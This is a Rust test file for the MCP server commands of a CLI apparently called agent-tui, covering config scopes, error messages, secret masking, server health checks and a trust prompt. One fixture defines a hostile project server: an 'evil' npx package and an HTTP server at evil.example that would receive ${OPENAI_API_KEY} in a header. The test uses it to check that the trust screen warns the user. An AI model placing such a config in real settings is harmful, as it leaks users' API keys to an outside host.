//! Which MCP servers there are: files, flags, and `agent-tui mcp`.

#[path = "support/mcp_server.rs"]
pub mod server;

use crate::support::pty::Pty;
use crate::support::{Output, Program};

fn run(program: &Program, line: &[&str]) -> Output {
    let mut arguments = vec!["mcp"];
    arguments.extend(line);
    program.run(&arguments)
}

fn fine(program: &Program, line: &[&str]) -> String {
    let output = run(program, line);
    assert_eq!(output.code, Some(0), "{line:?}: {output:?}");
    output.stdout
}

#[test]
fn a_server_is_added_shown_and_removed_in_every_scope_and_its_secrets_are_never_printed() {
    for (scope, file) in [
        ("local", "work/.agent-tui/settings.local.json"),
        ("project", "work/.mcp.json"),
        ("user", "config/settings.json"),
    ] {
        let program = Program::new();
        let home = program.workspace().parent().expect("a home").to_owned();
        let added = fine(
            &program,
            &[
                "add",
                "--scope",
                scope,
                "--env",
                "API_KEY=hunter22",
                "docs",
                "--",
                "no-such-server",
                "--port",
                "1",
            ],
        );
        let web = [
            "add",
            "-s",
            scope,
            "--transport",
            "http",
            "web",
            "http://127.0.0.1:9/mcp",
            "--header",
            "Authorization: Bearer hunter22",
        ];
        let added = added + &fine(&program, &web);
        let text = std::fs::read_to_string(home.join(file)).expect("written");
        let value: serde_json::Value = serde_json::from_str(&text).expect("JSON");
        assert_eq!(
            value["mcpServers"],
            serde_json::json!({
                "docs": {
                    "type": "stdio", "command": "no-such-server", "args": ["--port", "1"],
                    "env": {"API_KEY": "hunter22"},
                },
                "web": {
                    "type": "http", "url": "http://127.0.0.1:9/mcp",
                    "headers": {"Authorization": "Bearer hunter22"},
                },
            })
        );
        let docs = fine(&program, &["get", "docs"]);
        assert!(
            docs.contains("no-such-server --port 1") && docs.contains("API_KEY"),
            "{docs}"
        );
        let list = run(&program, &["list"]).stdout;
        assert!(list.contains("docs: no-such-server --port 1"), "{list}");
        assert!(list.contains("web: http://127.0.0.1:9/mcp"), "{list}");
        assert!(!list.contains("not trusted"), "the person added it: {list}");
        let printed = added + &docs + &list + &fine(&program, &["get", "web"]);
        assert!(!printed.contains("hunter22"), "{printed}");
        fine(&program, &["remove", "docs"]);
        assert_eq!(run(&program, &["get", "docs"]).code, Some(1));
        assert_eq!(run(&program, &["remove", "docs"]).code, Some(1));
    }
}

#[test]
fn saving_keeps_comments_and_order() {
    let program = Program::new();
    let before =
        "{\n  // ours\n  \"mcpServers\": {\n    \"z\": {\"command\": \"y\"} // why\n  }\n}\n";
    program.put(".mcp.json", before);
    fine(&program, &["add", "-s", "project", "a", "--", "x"]);
    let text = program.read(".mcp.json");
    let (z, a) = (text.find("\"z\""), text.find("\"a\""));
    assert!(
        z < a && text.contains("// ours") && text.contains("// why"),
        "{text}"
    );
    fine(&program, &["remove", "-s", "project", "a"]);
    assert_eq!(program.read(".mcp.json"), before);
}

#[test]
fn a_wrong_file_is_named_with_line_and_column_and_exits_with_2() {
    for (text, words) in [
        ("{\n  \"mcpServers\": {,}\n}", "line 2, column 18"),
        (
            "{\"mcpServers\": {\"a\": {\n\"command\": 7}}}",
            "line 2, column 12",
        ),
        ("{\"mcpServers\": {\"a\": {}}}", "line 1, column 22"),
    ] {
        let program = Program::new();
        program.put(".mcp.json", text);
        for line in [
            &["mcp", "list"][..],
            &["-p", "find *.none", "--provider", "builtin"],
        ] {
            let output = program.run(line);
            assert_eq!((output.code, &*output.stdout), (Some(2), ""), "{output:?}");
            assert!(output.stderr.contains(".mcp.json`, "), "{output:?}");
            assert!(output.stderr.contains(words), "{output:?}");
        }
        let mut add = vec!["add", "-s", "project", "b", "--", "x"];
        if words == "line 2, column 18" {
            assert_eq!(run(&program, &add).code, Some(2));
            add.clear();
        }
        assert_eq!(program.read(".mcp.json"), text, "it stays as it is");
    }
    let program = Program::new();
    for (value, words) in [
        ("{\"mcpServers\": 1}", "`--mcp-config`, line 1, column 16"),
        ("missing.json", "can't read `missing.json`"),
    ] {
        let output = program.run(&["mcp", "list", "--mcp-config", value]);
        assert_eq!(output.code, Some(2), "{output:?}");
        assert!(output.stderr.contains(words), "{output:?}");
    }
}

#[test]
fn a_bad_command_line_says_what_to_do() {
    let program = Program::new();
    for (line, words) in [
        (
            &["add", "a b", "--", "x"][..],
            "use letters, digits, - and _",
        ),
        (
            &["add", "--transport", "http", "a", "nowhere"],
            "not an http or https address",
        ),
        (&["add", "--env", "X", "a", "--", "x"], "is not NAME=VALUE"),
        (
            &["add", "--header", "A: b", "a", "--", "x"],
            "needs --transport http",
        ),
        (
            &["add-json", "a", "{\"args\": []}"],
            "needs `command` or `url`",
        ),
        (&["add-json", "a", "{"], "not valid JSON"),
        (&["add", "a"], "required"),
    ] {
        let output = run(&program, line);
        assert_eq!(output.code, Some(2), "{line:?}: {output:?}");
        assert!(output.stderr.contains(words), "{line:?}: {output:?}");
    }
    fine(&program, &["add", "a", "--", "x"]);
    let again = run(&program, &["add", "a", "--", "y"]);
    assert_eq!(again.code, Some(2), "{again:?}");
    assert!(again.stderr.contains("exists already"), "{again:?}");
}

#[test]
fn a_variable_that_is_not_set_is_named_and_a_projects_server_needs_trust() {
    let program = Program::new();
    program.put(
        ".mcp.json",
        r#"{"mcpServers": {"a": {"command": "x", "env": {"K": "${NOT_SET_HERE}"}}, "b": {"command": "no-such-server"}}}"#,
    );
    let list = run(&program, &["list"]).stdout;
    assert!(list.contains("${NOT_SET_HERE} is not set"), "{list}");
    assert!(list.contains("b: no-such-server - ○ not trusted"), "{list}");
    let trusted = run(&program, &["list", "--trust"]).stdout;
    assert!(!trusted.contains("not trusted"), "{trusted}");
}

#[test]
fn the_screen_starts_with_a_broken_servers_file_and_says_so() {
    let program = Program::new();
    program.put(".mcp.json", "{\n  \"mcpServers\": {,}\n}");
    let mut tui = Pty::spawn_in(program, &["--provider", "builtin"], 120, 40);
    tui.wait_for("line 2, column 18").wait_for("fix the file");
}

#[test]
fn the_trust_screen_names_the_command_of_a_server_and_where_its_secrets_come_from() {
    let program = Program::new();
    program.put(
        ".mcp.json",
        r#"{"mcpServers": {"a": {"command": "npx", "args": ["-y", "evil"]}, "b": {"url": "https://evil.example/mcp", "headers": {"X": "${OPENAI_API_KEY}"}}}}"#,
    );
    let mut tui = Pty::spawn_in(program, &["--provider", "builtin"], 120, 40);
    tui.wait_for("a: npx -y evil")
        .wait_for("b: https://evil.example/mcp (sends X from ${OPENAI_API_KEY})");
}

/// What a process of [`server`] runs.
#[test]
fn plays_a_server() {
    server::plays();
}

/// Adds a server that behaves like this.
fn add_server(program: &Program, name: &str, mode: &str) {
    let this = std::env::current_exe().expect("this test");
    let this = this.display().to_string();
    let mode = format!("{}={mode}", server::MODE);
    let play = ["mcp_files::plays_a_server", "--exact", "--nocapture", "-q"];
    let mut line = vec!["add", "--env", &mode, name, "--", &this];
    line.extend(play);
    fine(program, &line);
}

#[test]
fn a_test_lists_the_tools_of_a_server_with_the_time_of_each_step() {
    let program = Program::new();
    add_server(&program, "good", "plain");
    let printed = fine(&program, &["test", "good"]);
    for words in [
        "✓ connected",
        "✓ listed tools",
        " s\n",
        "mcp__good__echo",
        " tokens",
    ] {
        assert!(printed.contains(words), "{words}: {printed}");
    }
}

#[test]
fn a_test_of_a_broken_server_shows_its_last_lines_and_exits_with_1() {
    let program = Program::new();
    add_server(&program, "bad", "exits");
    let output = run(&program, &["test", "bad"]);
    assert_eq!(output.code, Some(1), "{output:?}");
    assert!(output.stdout.contains("✗ failed"), "{output:?}");
    assert!(output.stdout.contains("TOKEN is not set"), "{output:?}");
    assert!(!output.stdout.contains('\u{1b}'), "{output:?}");
    assert_eq!(run(&program, &["test", "bat"]).code, Some(1));
}

#[test]
fn a_list_says_which_servers_work() {
    let program = Program::new();
    add_server(&program, "good", "plain");
    add_server(&program, "bad", "exits");
    let printed = fine(&program, &["list"]);
    let line = |name: &str| {
        let mut lines = printed.lines();
        let found = lines.find(|line| line.starts_with(name));
        found.unwrap_or_else(|| panic!("no {name}: {printed}"))
    };
    assert!(line("good:").contains("✓ connected: "), "{printed}");
    assert!(line("bad:").contains("✗ failed: "), "{printed}");
    let json = fine(&program, &["list", "--json"]);
    let json: serde_json::Value = serde_json::from_str(&json).expect("JSON");
    let states: Vec<&str> = json
        .as_array()
        .expect("a list")
        .iter()
        .map(|server| server["status"].as_str().expect("a state"))
        .collect();
    assert_eq!(states, ["failed", "connected"]);
}

#[test]
fn a_server_that_never_answers_is_given_up_after_its_timeout() {
    let program = Program::new();
    let this = std::env::current_exe().expect("this test");
    let server = serde_json::json!({"mcpServers": {"slow": {
        "command": this.display().to_string(),
        "args": ["mcp_files::plays_a_server", "--exact", "--nocapture", "-q"],
        "env": {server::MODE: "hangs"}, "timeout": 1000,
    }}});
    let output = program.run(&["mcp", "test", "slow", "--mcp-config", &server.to_string()]);
    assert_eq!(output.code, Some(1), "{output:?}");
    assert!(
        output
            .stdout
            .contains("no answer to `initialize` within 1 s"),
        "{output:?}"
    );
}
